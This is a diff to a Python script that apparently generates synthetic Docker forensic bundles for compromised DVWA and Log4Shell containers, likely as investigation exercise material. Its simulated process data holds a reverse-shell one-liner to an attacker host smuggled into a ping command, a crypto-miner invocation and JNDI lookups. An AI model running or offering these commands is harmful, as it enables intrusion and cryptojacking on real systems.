@@ -174,12 +174,12 @@ def tar_bytes(entries: list[E]) -> bytes:
     return bytes(out)
 
 
-def layer(entries: list[E], dir_mtime: int, lower: dict[str, E] | None = None) -> list[E]:
+def layer(entries: list[E], dir_mtime: int, lower: dict[str, E] | None = None, owner: tuple[int, int] = (0, 0)) -> list[E]:
     """Complete a layer with its parent directories (an overlay upper dir holds every
     parent of a changed path) and put it in walk order. A parent that exists in `lower`
     (the merged view under this layer) is a copy-up: it keeps its metadata, except that a
     directory whose own entries changed (a child added or deleted) takes the newest such
-    child's mtime, as the kernel sets it. A new parent gets `dir_mtime`."""
+    child's mtime, as the kernel sets it. A new parent gets `dir_mtime` and `owner`."""
     lower = lower or {}
     explicit = {e.name: e for e in entries if e.kind == "d"}
     needed = set()
@@ -197,7 +197,7 @@ def layer(entries: list[E], dir_mtime: int, lower: dict[str, E] | None = None) -
             changed = [c.mtime for c in children.get(p, []) if c.kind in "wo" or c.name not in lower]
             d = E(p, "d", mode=lo.mode, uid=lo.uid, gid=lo.gid, mtime=max(changed) if changed else lo.mtime)
         else:
-            d = E(p, "d", mtime=dir_mtime)
+            d = E(p, "d", uid=owner[0], gid=owner[1], mtime=dir_mtime)
         extra.append(d)
         children.setdefault(p.rpartition("/")[0], []).append(d)
     return sorted(entries + extra, key=walk_key)
@@ -231,8 +231,8 @@ def merged(layers: list[list[E]]) -> dict[str, E]:
 
 
 def docker_diff(lower: dict[str, E], upper: list[E]) -> str:
-    """`docker diff` as dockerd computes it with overlay2's naive diff (the usual case on
-    kernels with CONFIG_OVERLAY_FS_REDIRECT_DIR, "Native Overlay Diff: false"): every path
+    """`docker diff` as dockerd computes it with overlay2's naive diff (common on kernels
+    with CONFIG_OVERLAY_FS_REDIRECT_DIR, "Native Overlay Diff: false"): every path
     of the container layer, a directory is `C` when something below it changed, parents
     first, names in byte order."""
     lines = []
@@ -499,6 +499,44 @@ MASKED = ["/proc/asound", "/proc/acpi", "/proc/kcore", "/proc/keys", "/proc/late
           "/proc/timer_stats", "/proc/sched_debug", "/proc/scsi", "/sys/firmware"]
 READONLY = ["/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"]
 
+
+def host_config(**changes) -> dict:
+    """`HostConfig` of a plain `docker run -d` (field order as dockerd prints it), with
+    `changes` applied in place."""
+    hc = {
+        "Binds": None, "ContainerIDFile": "", "LogConfig": {"Type": "json-file", "Config": {}},
+        "NetworkMode": "bridge", "PortBindings": {}, "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0},
+        "AutoRemove": False, "VolumeDriver": "", "VolumesFrom": None, "ConsoleSize": [0, 0], "CapAdd": None,
+        "CapDrop": None, "CgroupnsMode": "private", "Dns": [], "DnsOptions": [], "DnsSearch": [], "ExtraHosts": None,
+        "GroupAdd": None, "IpcMode": "private", "Cgroup": "", "Links": None, "OomScoreAdj": 0, "PidMode": "",
+        "Privileged": False, "PublishAllPorts": False, "ReadonlyRootfs": False, "SecurityOpt": None, "UTSMode": "",
+        "UsernsMode": "", "ShmSize": 67108864, "Runtime": "runc", "Isolation": "", "CpuShares": 0, "Memory": 0,
+        "NanoCpus": 0, "CgroupParent": "", "BlkioWeight": 0, "BlkioWeightDevice": [], "BlkioDeviceReadBps": [],
+        "BlkioDeviceWriteBps": [], "BlkioDeviceReadIOps": [], "BlkioDeviceWriteIOps": [], "CpuPeriod": 0,
+        "CpuQuota": 0, "CpuRealtimePeriod": 0, "CpuRealtimeRuntime": 0, "CpusetCpus": "", "CpusetMems": "",
+        "Devices": [], "DeviceCgroupRules": None, "DeviceRequests": None, "MemoryReservation": 0, "MemorySwap": 0,
+        "MemorySwappiness": None, "OomKillDisable": None, "PidsLimit": None, "Ulimits": None, "CpuCount": 0,
+        "CpuPercent": 0, "IOMaximumIOps": 0, "IOMaximumBandwidth": 0, "MaskedPaths": MASKED,
+        "ReadonlyPaths": READONLY,
+    }
+    assert changes.keys() <= hc.keys(), changes.keys() - hc.keys()
+    hc.update(changes)
+    return hc
+
+
+def graph_driver(rw: str, layer_cache_ids: list[str]) -> dict:
+    """overlay2 `GraphDriver`: the init layer, then the image layers top to bottom."""
+    lower = [f"/var/lib/docker/overlay2/{rw}-init/diff"] + [f"/var/lib/docker/overlay2/{c}/diff" for c in reversed(layer_cache_ids)]
+    return {
+        "Data": {
+            "LowerDir": ":".join(lower),
+            "MergedDir": f"/var/lib/docker/overlay2/{rw}/merged",
+            "UpperDir": f"/var/lib/docker/overlay2/{rw}/diff",
+            "WorkDir": f"/var/lib/docker/overlay2/{rw}/work",
+        },
+        "Name": "overlay2",
+    }
+
 PASSWD_BASE = """root:x:0:0:root:/root:/bin/bash
 daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
 bin:x:2:2:bin:/bin:/usr/sbin/nologin
@@ -599,7 +637,6 @@ DVWA_CREATED = (t("2026-11-27T09:12:44"), 318207651)
 DVWA_STARTED = (t("2026-11-27T09:12:45"), 61934022)
 DVWA_COMMIT = (t("2026-11-27T15:41:07"), 812345671)
 DVWA_SHIM_PID, DVWA_PID = 23096, 23118
-WWW = (33, 33)
 
 DVWA_ENV = [
     "MYSQL_ROOT_PASSWORD=Dvwa!R00t-2026",
@@ -732,7 +769,7 @@ def dvwa_layers():
         dv("setup.php", "<?php\n// Create / Reset Database\n?>\n"),
         dv("vulnerabilities/exec/index.php", "<?php\ndefine( 'DVWA_WEB_PAGE_TO_ROOT', '../../' );\n$vulnerabilityFile = 'low.php';\nrequire_once DVWA_WEB_PAGE_TO_ROOT . \"vulnerabilities/exec/source/{$vulnerabilityFile}\";\n?>\n"),
         dv("vulnerabilities/exec/source/low.php", LOW_PHP),
-    ], c, merged([l1, l2]))
+    ], c, merged([l1, l2]), owner=(33, 33))
     d = t("2026-11-10T08:15:09")
     l4 = layer([E("main.sh", data=MAIN_SH, mode=0o755, mtime=t("2026-11-10T08:12:55"))], d, merged([l1, l2, l3]))
     bk = "buildkit.dockerfile.v0"
@@ -928,26 +965,24 @@ def dvwa_processes() -> list[list[str]]:
     rev = f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"
     apache = "/usr/sbin/apache2 -k start"
     rows = [
-        ["root", "23118", "23096", "0", "09:12", "?", "00:00:00", "/bin/bash /main.sh"],
-        ["root", "23164", "23118", "0", "09:12", "?", "00:00:00", "/bin/sh /usr/bin/mysqld_safe"],
+        ["root", str(DVWA_PID), str(DVWA_SHIM_PID), "0", "09:12", "?", "00:00:00", "/bin/bash /main.sh"],
+        ["root", "23164", str(DVWA_PID), "0", "09:12", "?", "00:00:00", "/bin/sh /usr/bin/mysqld_safe"],
         ["101", "23302", "23164", "0", "09:12", "?", "00:00:19", "/usr/sbin/mysqld --basedir=/usr --datadir=/var/lib/mysql --plugin-dir=/usr/lib/x86_64-linux-gnu/mariadb19/plugin --user=mysql --skip-log-error --pid-file=/run/mysqld/mysqld.pid --socket=/run/mysqld/mysqld.sock"],
-        ["root", "23481", "23118", "0", "09:12", "?", "00:00:01", apache],
+        ["root", "23481", str(DVWA_PID), "0", "09:12", "?", "00:00:01", apache],
     ]
     rows += [["www-data", str(p), "23481", "0", "09:12", "?", "00:00:00", apache] for p in range(23490, 23495)]
     rows += [
-        ["root", "23520", "23118", "0", "09:12", "?", "00:00:00", "tail -f /var/log/apache2/access.log /var/log/apache2/error.log /var/log/apache2/other_vhosts_access.log"],
+        ["root", "23520", str(DVWA_PID), "0", "09:12", "?", "00:00:00", "tail -f /var/log/apache2/access.log /var/log/apache2/error.log /var/log/apache2/other_vhosts_access.log"],
         ["www-data", "31877", "23492", "0", "14:02", "?", "00:00:00", f"sh -c ping  -c 4 127.0.0.1;bash -c '{rev}'"],
         ["www-data", "31880", "31877", "0", "14:02", "?", "00:00:00", f"bash -c {rev}"],
         ["www-data", "31881", "31880", "0", "14:02", "?", "00:00:00", "bash -i"],
-        ["www-data", "32406", "23118", "99", "14:11", "?", "02:50:37", f"/tmp/kdevtmpfsi -o {MINER_URL} -u {MINER_WALLET} -p x -k --donate-level 1"],
+        ["www-data", "32406", str(DVWA_PID), "99", "14:11", "?", "02:50:37", f"/tmp/kdevtmpfsi -o {MINER_URL} -u {MINER_WALLET} -p x -k --donate-level 1"],
     ]
     return rows
 
 
 def dvwa_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
-    rw = fake_id("dvwa-rw-layer")
     vol = fake_id("dvwa-mysql-volume")
-    lower = [f"/var/lib/docker/overlay2/{rw}-init/diff"] + [f"/var/lib/docker/overlay2/{c}/diff" for c in reversed(layer_cache_ids)]
     cdir = f"/var/lib/docker/containers/{DVWA_ID}"
     net = {
         "IPAMConfig": None, "Links": None, "Aliases": None,
@@ -978,32 +1013,8 @@ def dvwa_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
         "ProcessLabel": "",
         "AppArmorProfile": "docker-default",
         "ExecIDs": None,
-        "HostConfig": {
-            "Binds": None, "ContainerIDFile": "", "LogConfig": {"Type": "json-file", "Config": {}},
-            "NetworkMode": "bridge", "PortBindings": {"80/tcp": [{"HostIp": "", "HostPort": "81"}]},
-            "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0}, "AutoRemove": False, "VolumeDriver": "",
-            "VolumesFrom": None, "ConsoleSize": [0, 0], "CapAdd": None, "CapDrop": None, "CgroupnsMode": "private",
-            "Dns": [], "DnsOptions": [], "DnsSearch": [], "ExtraHosts": None, "GroupAdd": None, "IpcMode": "private",
-            "Cgroup": "", "Links": None, "OomScoreAdj": 0, "PidMode": "", "Privileged": False, "PublishAllPorts": False,
-            "ReadonlyRootfs": False, "SecurityOpt": None, "UTSMode": "", "UsernsMode": "", "ShmSize": 67108864,
-            "Runtime": "runc", "Isolation": "", "CpuShares": 0, "Memory": 0, "NanoCpus": 0, "CgroupParent": "",
-            "BlkioWeight": 0, "BlkioWeightDevice": [], "BlkioDeviceReadBps": [], "BlkioDeviceWriteBps": [],
-            "BlkioDeviceReadIOps": [], "BlkioDeviceWriteIOps": [], "CpuPeriod": 0, "CpuQuota": 0,
-            "CpuRealtimePeriod": 0, "CpuRealtimeRuntime": 0, "CpusetCpus": "", "CpusetMems": "", "Devices": [],
-            "DeviceCgroupRules": None, "DeviceRequests": None, "MemoryReservation": 0, "MemorySwap": 0,
-            "MemorySwappiness": None, "OomKillDisable": None, "PidsLimit": None, "Ulimits": None, "CpuCount": 0,
-            "CpuPercent": 0, "IOMaximumIOps": 0, "IOMaximumBandwidth": 0, "MaskedPaths": MASKED,
-            "ReadonlyPaths": READONLY,
-        },
-        "GraphDriver": {
-            "Data": {
-                "LowerDir": ":".join(lower),
-                "MergedDir": f"/var/lib/docker/overlay2/{rw}/merged",
-                "UpperDir": f"/var/lib/docker/overlay2/{rw}/diff",
-                "WorkDir": f"/var/lib/docker/overlay2/{rw}/work",
-            },
-            "Name": "overlay2",
-        },
+        "HostConfig": host_config(PortBindings={"80/tcp": [{"HostIp": "", "HostPort": "81"}]}),
+        "GraphDriver": graph_driver(fake_id("dvwa-rw-layer"), layer_cache_ids),
         "Mounts": [{
             "Type": "volume", "Name": vol, "Source": f"/var/lib/docker/volumes/{vol}/_data",
             "Destination": "/var/lib/mysql", "Driver": "local", "Mode": "", "RW": True, "Propagation": "",
@@ -1072,6 +1083,7 @@ L4S_CREATED = (t("2026-11-20T08:30:11"), 502918334)
 L4S_STARTED = (t("2026-11-20T08:30:12"), 190447213)
 L4S_COMMIT = (t("2026-11-27T15:52:30"), 417306529)
 L4S_HOST = "192.0.2.80"
+L4S_SHIM_PID, L4S_PID = 83987, 84010
 JAVA = "/docker-java-home/jre/bin/java"
 JVM_DIR = "usr/lib/jvm/java-8-openjdk-amd64"
 
@@ -1318,6 +1330,9 @@ def log4j(epoch: int, millis: int, level: str, thread: str, msg: str) -> str:
 
 
 def status_logger(epoch: int, millis: int, thread: str, level: str, msg: str) -> str:
+    """log4j2 StatusData.getFormattedStatus(). With `status=` in the configuration a
+    StatusConsoleListener prints it to System.out with println, so the stack trace that
+    follows (printStackTrace output, ending in a newline) is followed by an empty line."""
     return f"{utc(epoch).strftime('%Y-%m-%d %H:%M:%S')},{millis:03d} {thread} {level} {msg}"
 
 
@@ -1432,14 +1447,14 @@ def l4s_logs():
         api = dict(headers).get("x-api-version")
         if api == JNDI_OBF:
             warn = status_logger(when, app_ms + 8, thread, "WARN", f"Error looking up JNDI resource [ldap://{SCANNER}:1389/a]. javax.naming.CommunicationException: {SCANNER}:1389 [Root exception is java.net.ConnectException: Connection refused (Connection refused)]")
-            for i, line in enumerate([warn] + JNDI_FAIL_TRACE):
-                log.add(when, (app_ms + 8) * 1_000_000 + 1_207 + i * 3_301, "stderr", line)
+            for i, line in enumerate([warn] + JNDI_FAIL_TRACE + [""]):
+                log.add(when, (app_ms + 8) * 1_000_000 + 1_207 + i * 3_301, "stdout", line)
             log.add(when, (app_ms + 11) * 1_000_000 + 88_731, "stdout", log4j(when, app_ms + 11, "INFO", thread, f"Received a request for API version {api}"))
         elif api == JNDI_MAIN:
             err_ts = when + 1
             err = status_logger(err_ts, 36, thread, "ERROR", f"An exception occurred processing Appender Console java.lang.ClassCastException: {EXPLOIT_CLASS} cannot be cast to javax.naming.spi.ObjectFactory")
-            for i, line in enumerate([err] + CCE_TRACE):
-                log.add(err_ts, 36_000_000 + 5_119 + i * 2_917, "stderr", line)
+            for i, line in enumerate([err] + CCE_TRACE + [""]):
+                log.add(err_ts, 36_000_000 + 5_119 + i * 2_917, "stdout", line)
         elif api is not None:
             log.add(when, app_ms * 1_000_000 + 55_501, "stdout", log4j(when, app_ms, "INFO", thread, f"Received a request for API version {api}"))
         done = when + 1 if api == JNDI_MAIN else when
@@ -1497,8 +1512,6 @@ def l4s_commit_layer(lower: dict[str, E], catalina, access) -> list[E]:
 
 
 def l4s_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
-    rw = fake_id("l4s-rw-layer")
-    lower = [f"/var/lib/docker/overlay2/{rw}-init/diff"] + [f"/var/lib/docker/overlay2/{c}/diff" for c in reversed(layer_cache_ids)]
     cdir = f"/var/lib/docker/containers/{L4S_ID}"
     mac = "02:42:ac:11:00:03"
     net = {
@@ -1514,7 +1527,7 @@ def l4s_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
         "Args": ["run"],
         "State": {
             "Status": "running", "Running": True, "Paused": False, "Restarting": False, "OOMKilled": False,
-            "Dead": False, "Pid": 84010, "ExitCode": 0, "Error": "", "StartedAt": go_time(*L4S_STARTED),
+            "Dead": False, "Pid": L4S_PID, "ExitCode": 0, "Error": "", "StartedAt": go_time(*L4S_STARTED),
             "FinishedAt": "0001-01-01T00:00:00Z",
         },
         "Image": image_id,
@@ -1530,34 +1543,15 @@ def l4s_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
         "ProcessLabel": "",
         "AppArmorProfile": "docker-default",
         "ExecIDs": None,
-        "HostConfig": {
-            "Binds": ["/var/run/docker.sock:/var/run/docker.sock"], "ContainerIDFile": "",
-            "LogConfig": {"Type": "json-file", "Config": {"max-file": "3", "max-size": "50m"}},
-            "NetworkMode": "bridge", "PortBindings": {"8080/tcp": [{"HostIp": "", "HostPort": "8080"}]},
-            "RestartPolicy": {"Name": "unless-stopped", "MaximumRetryCount": 0}, "AutoRemove": False,
-            "VolumeDriver": "", "VolumesFrom": None, "ConsoleSize": [0, 0], "CapAdd": None, "CapDrop": None,
-            "CgroupnsMode": "private", "Dns": [], "DnsOptions": [], "DnsSearch": [], "ExtraHosts": None,
-            "GroupAdd": None, "IpcMode": "private", "Cgroup": "", "Links": None, "OomScoreAdj": 0, "PidMode": "",
-            "Privileged": False, "PublishAllPorts": False, "ReadonlyRootfs": False, "SecurityOpt": None,
-            "UTSMode": "", "UsernsMode": "", "ShmSize": 67108864, "Runtime": "runc", "Isolation": "", "CpuShares": 0,
-            "Memory": 0, "NanoCpus": 0, "CgroupParent": "", "BlkioWeight": 0, "BlkioWeightDevice": [],
-            "BlkioDeviceReadBps": [], "BlkioDeviceWriteBps": [], "BlkioDeviceReadIOps": [], "BlkioDeviceWriteIOps": [],
-            "CpuPeriod": 0, "CpuQuota": 0, "CpuRealtimePeriod": 0, "CpuRealtimeRuntime": 0, "CpusetCpus": "",
-            "CpusetMems": "", "Devices": [], "DeviceCgroupRules": None, "DeviceRequests": None,
-            "MemoryReservation": 0, "MemorySwap": 0, "MemorySwappiness": None, "OomKillDisable": None,
-            "PidsLimit": None, "Ulimits": [], "CpuCount": 0, "CpuPercent": 0, "IOMaximumIOps": 0,
-            "IOMaximumBandwidth": 0, "MaskedPaths": MASKED + ["/sys/devices/virtual/powercap"],
-            "ReadonlyPaths": READONLY,
-        },
-        "GraphDriver": {
-            "Data": {
-                "LowerDir": ":".join(lower),
-                "MergedDir": f"/var/lib/docker/overlay2/{rw}/merged",
-                "UpperDir": f"/var/lib/docker/overlay2/{rw}/diff",
-                "WorkDir": f"/var/lib/docker/overlay2/{rw}/work",
-            },
-            "Name": "overlay2",
-        },
+        "HostConfig": host_config(
+            Binds=["/var/run/docker.sock:/var/run/docker.sock"],
+            LogConfig={"Type": "json-file", "Config": {"max-file": "3", "max-size": "50m"}},
+            PortBindings={"8080/tcp": [{"HostIp": "", "HostPort": "8080"}]},
+            RestartPolicy={"Name": "unless-stopped", "MaximumRetryCount": 0},
+            Ulimits=[],
+            MaskedPaths=MASKED + ["/sys/devices/virtual/powercap"],
+        ),
+        "GraphDriver": graph_driver(fake_id("l4s-rw-layer"), layer_cache_ids),
         "Mounts": [{
             "Type": "bind", "Source": "/var/run/docker.sock", "Destination": "/var/run/docker.sock", "Mode": "",
             "RW": True, "Propagation": "rprivate",
@@ -1585,11 +1579,11 @@ def l4s_processes() -> list[list[str]]:
                  "-Dcatalina.base=/usr/local/tomcat -Dcatalina.home=/usr/local/tomcat "
                  "-Djava.io.tmpdir=/usr/local/tomcat/temp org.apache.catalina.startup.Bootstrap start")
     return [
-        ["root", "84010", "83987", "1", "Nov20", "?", "02:41:13", java_args],
-        ["root", "84281", "84010", "0", "14:21", "?", "00:00:00", REV_CMD],
+        ["root", str(L4S_PID), str(L4S_SHIM_PID), "1", "Nov20", "?", "02:41:13", java_args],
+        ["root", "84281", str(L4S_PID), "0", "14:21", "?", "00:00:00", REV_CMD],
         ["root", "84285", "84281", "0", "14:21", "?", "00:00:00", "bash -i"],
         ["root", "84286", "84285", "0", "14:21", "?", "00:00:00", "bash -i"],
-        ["root", "84412", "84010", "0", "14:24", "?", "00:00:03", "/tmp/.x/agent"],
+        ["root", "84412", str(L4S_PID), "0", "14:24", "?", "00:00:03", "/tmp/.x/agent"],
     ]
 
 
@@ -1626,7 +1620,19 @@ def build_log4shell() -> None:
     write("log4shell", "stats.txt", go_json(stats) + "\n")
 
 
+def clear(bundle: str) -> None:
+    """Remove the bundle's previous files so that nothing stale survives a regeneration."""
+    root = os.path.join(HERE, bundle)
+    for dirpath, dirnames, filenames in os.walk(root, topdown=False):
+        for name in filenames:
+            os.remove(os.path.join(dirpath, name))
+        for name in dirnames:
+            os.rmdir(os.path.join(dirpath, name))
+
+
 def main() -> None:
+    for bundle in ("dvwa", "log4shell"):
+        clear(bundle)
     build_dvwa()
     build_log4shell()
     update_readme()
